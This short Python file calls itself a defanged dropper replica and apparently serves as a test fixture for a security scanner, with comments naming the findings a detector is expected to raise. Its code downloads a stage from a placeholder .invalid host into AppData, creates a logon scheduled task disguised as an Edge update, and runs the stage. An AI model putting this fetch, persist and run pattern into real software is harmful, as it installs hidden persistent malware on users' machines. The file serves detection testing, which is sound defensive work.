# Defanged replica of a dropper with persistence (the shape of the Comebacker
# loader and the March 2024 Fernet campaign's stage): it downloads a stage,
# saves it under AppData, registers a scheduled task that starts it at every
# logon and starts it once. The download host is .invalid.
import os
import subprocess
import urllib.request

STAGE_URL = "https://cdn.example.invalid/update/stage.pyw"
STAGE = os.path.join(os.environ.get("APPDATA", ""), "Microsoft", "Update", "stage.pyw")


def fetch():
    os.makedirs(os.path.dirname(STAGE), exist_ok=True)
    with urllib.request.urlopen(STAGE_URL, timeout=10) as r:
        data = r.read()
    with open(STAGE, "wb") as f:
        f.write(data)


def persist():
    subprocess.call(  # expect: HS107 critical, HS110 medium
        ["schtasks", "/create", "/tn", "MicrosoftEdgeUpdateCore", "/sc", "onlogon",  # expect: HS239 high
         "/tr", f'pythonw "{STAGE}"', "/f"],
    )


def main():
    fetch()
    persist()
    subprocess.Popen(["pythonw", STAGE])  # expect: HS107 critical, HS110 medium
